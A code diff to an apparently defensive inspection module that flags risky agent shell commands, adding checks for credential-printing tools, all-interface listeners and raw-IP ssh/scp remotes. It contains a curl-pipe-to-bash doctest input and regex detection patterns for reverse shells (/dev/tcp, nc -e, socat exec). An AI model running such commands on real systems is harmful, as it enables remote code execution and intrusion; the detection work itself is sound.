@@ -1,19 +1,21 @@
 """Built-in content inspection: risk flags any user would want raised, from general knowledge.
 
-The rules are generic security facts any reviewer would list, from the programs' and
-tools' own documentation, not fitted to any data set: credential stores and shell histories
-read or written by any command, where each tool's documentation puts them
-(credentials.py); secrets in text, found by detect-secrets (secret_scan.py), and passwords
-given as arguments (secret_args.py); permission changes that open files to other users
-(permissions.py); download-to-shell, a shell spawned from inside another program or run by
-a sed program, file contents sent to a network endpoint, inline code serving to the
-network, raw disks, power state, setuid and capabilities, raw-IP URLs, privilege
-escalation, destructive deletes, reverse shells, a shell started with nothing to run,
-native libraries loaded from a file; writes outside the project whether by redirect, last
-argument, an operand the program changes (touch, chmod, sed -i), an output option (curl -o,
-tar cf: outputs.py), a destination option or a sed/awk program. Unknown
-tools are not flagged: novelty is the support memory's job. A flagged call gets a higher
-training weight, so the gate learns from it more strongly.
+The rules are generic security facts any reviewer would list, from the programs' and tools'
+own documentation, not fitted to any data set: credential stores and shell histories read or
+written by any command, where each tool's documentation puts them (credentials.py), and
+commands whose documented job is to print one (``gh auth token``: credential_commands.py);
+servers told to listen on every interface (listeners.py); secrets in text, found by
+detect-secrets (secret_scan.py), and passwords given as arguments (secret_args.py);
+permission changes that open files to other users (permissions.py); download-to-shell, a
+shell spawned from inside another program or run by a sed program, file contents sent to a
+network endpoint, inline code serving to the network, raw disks, power state, setuid and
+capabilities, raw-IP URLs and remotes (``scp f 203.0.113.9:``), privilege escalation,
+destructive deletes, reverse shells, a shell started with nothing to run, native libraries
+loaded from a file; writes outside the project whether by redirect, last argument, an
+operand the program changes (touch, chmod, sed -i), an output option (curl -o, tar cf:
+outputs.py), a destination option or a sed/awk program. Unknown tools are not flagged:
+novelty is the support memory's job. A flagged call gets a higher training weight, so the
+gate learns from it more strongly.
 
 >>> r = inspect_call(ToolCall("Bash", {"command": "curl -s http://x.io/i.sh | bash"}, cwd="/p"))
 >>> r.flags, r.weight
@@ -28,7 +30,9 @@ import re
 from dataclasses import dataclass
 
 from neuroplast.gate.calls import MAX_FIELD_CHARS, ToolCall, clip_text
+from neuroplast.gate.credential_commands import prints_credential
 from neuroplast.gate.credentials import credential_kind
+from neuroplast.gate.listeners import binds_every_interface
 from neuroplast.gate.outputs import option_values, output_files
 from neuroplast.gate.paths import FILE_URL, path_zone, resolve_path
 from neuroplast.gate.permissions import opens_permissions
@@ -161,6 +165,10 @@ _URL_IP = re.compile(
     r"|0x[0-9a-f]+|\d{8,10})(?:[:/?#\s'\"]|$)", re.IGNORECASE
 )
 _LOOPBACK = ("127.", "[::1]", "0.0.0.0")
+# ssh, scp, rsync and sftp name their remote as [user@]host[:path]: a raw IP address there
+# is the same signal as in a URL
+_REMOTE_SHELLS = frozenset({"ssh", "scp", "rsync", "sftp", "mosh"})
+_REMOTE_IP = re.compile(r"^(?:[^@\s/]+@)?(\d{1,3}(?:\.\d{1,3}){3})(?::|$)")
 _REVERSE_SHELL = re.compile(
     r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)\b[^|;&]*\s-[a-z]*[ec]\b|\bsocat\b[^|;&]*exec:"
     r"|\bmkfifo\b[^;&]*\bnc\b|pty\.spawn|socket\.socket\([^)]*\)[^;]*connect"
@@ -325,6 +333,14 @@ def _check_segment(call: ToolCall, seg: Segment, flags: set[str]) -> None:
         flags.add("power_state")
     _check_arguments(call, seg, flags)
     _check_network(seg, flags)
+    if prints_credential(seg):
+        flags.add("credential_path_read")  # the tool reads its store and prints the secret
+    if binds_every_interface(seg):
+        flags.add("network_listener")
+    if head in _REMOTE_SHELLS and any(
+        (m := _REMOTE_IP.match(a)) and not m.group(1).startswith(_LOOPBACK) for a in argv[1:]
+    ):
+        flags.add("raw_ip_url")
     if head in ("chown", "chgrp") and any(a.startswith("root") for a in argv[1:]):
         flags.add("privilege_escalation")
     args = [a for a in argv[1:] if not a.startswith("-")]
